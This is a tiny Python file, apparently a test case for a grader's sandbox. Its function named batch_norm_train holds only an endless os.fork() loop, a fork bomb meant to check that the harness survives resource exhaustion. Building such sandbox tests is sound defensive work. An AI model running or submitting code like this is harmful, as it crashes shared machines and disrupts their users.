# Forks as fast as it can.
# expect: 17 test_train=0
# rest: right

# %% train
import os


def batch_norm_train(x, gamma, beta, eps=1e-5):
    while True:
        try:
            os.fork()
        except OSError:
            pass
